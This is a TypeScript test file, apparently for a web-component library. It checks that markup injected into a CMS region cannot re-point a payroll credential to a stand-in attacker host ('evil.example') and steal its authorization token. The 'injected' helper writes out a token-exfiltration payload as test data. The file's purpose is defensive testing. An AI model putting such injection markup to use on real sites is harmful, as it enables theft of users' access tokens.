import { expect, fixture, html } from '@open-wc/testing';
import { HttpResponse, http } from 'msw';
import { waitUntil } from '../../support/wait-until.js';
import '../../../components/callout-credential/define.js';
import '../../../components/callout-get/define.js';
import type { CalloutCredential } from '../../../components/callout-credential/callout-credential.js';
import type { CalloutGet } from '../../../components/callout-get/callout-get.js';
import { type CalloutError, CalloutErrorCode, setDefaultCallout } from '../../../src/index.js';
import { capturingConsole } from '../../support/capturing-console.js';
import { useMsw } from '../../support/msw-worker.js';
import { apiBase, createTestClient } from '../../support/test-client.js';
import { textOf, untilState } from '../support/wait.js';

const api = useMsw();
const payroll = 'https://payroll.contoso.test/api/';
const evil = 'https://evil.example/';

/** Counts what reaches the legitimate API and the attacker's, and which tokens came along. */
function countingApis() {
  const seen = { payroll: 0, evil: 0, evilTokens: [] as string[] };
  api.use(
    http.all(`${payroll}*`, () => {
      seen.payroll++;
      return HttpResponse.json([{ id: 'p-1' }]);
    }),
    http.all(`${evil}*`, ({ request }) => {
      seen.evil++;
      const token = request.headers.get('authorization');
      if (token) seen.evilTokens.push(token);
      return HttpResponse.json([{ stolen: true }]);
    }),
  );
  return seen;
}

/** A page with a legitimate credential and a CMS region that renders untrusted markup. */
async function pageWithCmsRegion() {
  const page = await fixture<HTMLDivElement>(html`<div>
    <callout-credential name="Payroll" provider="aad" url=${payroll} scopes="api://payroll/Read"></callout-credential>
    <div class="cms"></div>
  </div>`);
  return { page, cms: page.querySelector<HTMLDivElement>('.cms')! };
}

/** Markup an attacker can put into a rich-text region: no script, only elements. */
const injected = (name: string) =>
  `<callout-credential name="${name}" provider="aad" url="${evil}" scopes="api://payroll/Read"></callout-credential>
   <callout-get credential="${name}" path="steal"></callout-get>`;

describe('<callout-credential> against injected markup', () => {
  it('a second element re-pointing a credential after it acquired a token gets no request and no token; the first keeps working.', async () => {
    const { callout, tokenRequests } = createTestClient();
    setDefaultCallout(callout);
    const errors: CalloutError[] = [];
    callout.events.addEventListener('error', (e) => errors.push(e.detail.error));
    const seen = countingApis();
    const { page, cms } = await pageWithCmsRegion();
    const legit = document.createElement('callout-get');
    legit.setAttribute('credential', 'Payroll');
    legit.setAttribute('path', 'payslips');
    page.append(legit);
    await untilState(legit, 'data');
    expect(tokenRequests).to.have.length(1);

    await capturingConsole(async (lines) => {
      cms.innerHTML = injected('Payroll');
      const second = cms.querySelector<CalloutCredential>('callout-credential')!;
      const stealer = cms.querySelector<CalloutGet>('callout-get')!;
      await second.updateComplete;
      await untilState(stealer, 'data');
      await legit.refresh();
      await second.updateComplete;
      expect(seen.evil, 'requests to the attacker').to.equal(0);
      expect(seen.evilTokens).to.deep.equal([]);
      expect(seen.payroll).to.equal(3);
      expect(callout.credentials.get('Payroll')?.url).to.equal(payroll);
      expect(second.hasAttribute('invalid')).to.equal(true);
      expect(second.credential).to.equal(undefined);
      expect(textOf(second)).to.contain('already defined');
      expect(second.getBoundingClientRect().height).to.be.greaterThan(0);
      expect(lines.filter((line) => line.includes('already defined'))).to.have.length(1);
      expect(errors.map((e) => e.code)).to.deep.equal([CalloutErrorCode.credentialConflict]);
    });
  });

  it('a second element injected before any token was acquired gets no request either.', async () => {
    const { callout, tokenRequests } = createTestClient();
    setDefaultCallout(callout);
    const seen = countingApis();
    const { page, cms } = await capturingConsole(async () => {
      const made = await pageWithCmsRegion();
      made.cms.innerHTML = injected('Payroll');
      return made;
    });
    const stealer = cms.querySelector<CalloutGet>('callout-get')!;
    const legit = document.createElement('callout-get');
    legit.setAttribute('credential', 'Payroll');
    legit.setAttribute('path', 'payslips');
    page.append(legit);
    await untilState(legit, 'data');
    await untilState(stealer, 'data');
    expect(seen.evil).to.equal(0);
    expect(seen.payroll).to.equal(2);
    expect(tokenRequests).to.have.length(1);
  });

  it('a credential defined in script cannot be re-pointed by markup.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const seen = countingApis();
    let legit = 0;
    api.use(http.get(`${apiBase}steal`, () => HttpResponse.json({ n: ++legit })));
    const cms = await fixture<HTMLDivElement>(html`<div></div>`);
    await capturingConsole(async () => {
      cms.innerHTML = injected('Orders');
      await untilState(cms.querySelector<CalloutGet>('callout-get')!, 'data');
    });
    expect(seen.evil).to.equal(0);
    expect(legit, 'the request went to the API of the script-defined credential').to.equal(1);
    expect(callout.credentials.get('Orders')?.url).to.equal(apiBase);
  });

  it('an identical second declaration is fine, and the credential stays until the last declaring element leaves.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const { page, cms } = await pageWithCmsRegion();
    cms.innerHTML = `<callout-credential name="Payroll" provider="aad" url="${payroll}" scopes="api://payroll/Read"></callout-credential>`;
    const first = page.querySelector<CalloutCredential>('callout-credential')!;
    const second = cms.querySelector<CalloutCredential>('callout-credential')!;
    await second.updateComplete;
    expect(second.hasAttribute('invalid')).to.equal(false);
    expect(second.credential).to.equal(first.credential);
    first.remove();
    expect(callout.credentials.get('Payroll')?.url).to.equal(payroll);
    second.remove();
    expect(callout.credentials.get('Payroll')).to.equal(undefined);
  });

  it('a refused declaration is not retried as is when the owner leaves, only for another client.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const { page, cms } = await pageWithCmsRegion();
    const second = await capturingConsole(async () => {
      cms.innerHTML = `<callout-credential name="Payroll" provider="aad" url="${evil}" scopes="api://payroll/Read"></callout-credential>`;
      const injectedElement = cms.querySelector<CalloutCredential>('callout-credential')!;
      await injectedElement.updateComplete;
      return injectedElement;
    });
    expect(second.hasAttribute('invalid')).to.equal(true);
    page.querySelector('callout-credential')!.remove();
    second.setAttribute('scopes', 'api://payroll/Read'); // the same attributes: the same attempt
    second.requestUpdate();
    await second.updateComplete;
    expect(callout.credentials.get('Payroll'), 'the refused element took the name over').to.equal(undefined);
    expect(second.hasAttribute('invalid')).to.equal(true);
    const other = createTestClient().callout;
    second.callout = other;
    await second.updateComplete;
    expect(other.credentials.get('Payroll')?.url).to.equal(evil);
    expect(second.hasAttribute('invalid')).to.equal(false);
    expect(callout.credentials.get('Payroll')).to.equal(undefined);
  });

  it('once its owner has removed it, the name can be declared again with another URL.', async () => {
    const { callout } = createTestClient();
    setDefaultCallout(callout);
    const { page } = await pageWithCmsRegion();
    page.querySelector('callout-credential')!.remove();
    const moved = await fixture<CalloutCredential>(
      html`<callout-credential name="Payroll" provider="aad" url="https://payroll-v2.contoso.test/" scopes="s"></callout-credential>`,
    );
    expect(moved.hasAttribute('invalid')).to.equal(false);
    expect(callout.credentials.get('Payroll')?.url).to.equal('https://payroll-v2.contoso.test/');
    await waitUntil(() => moved.credential !== undefined);
  });
});
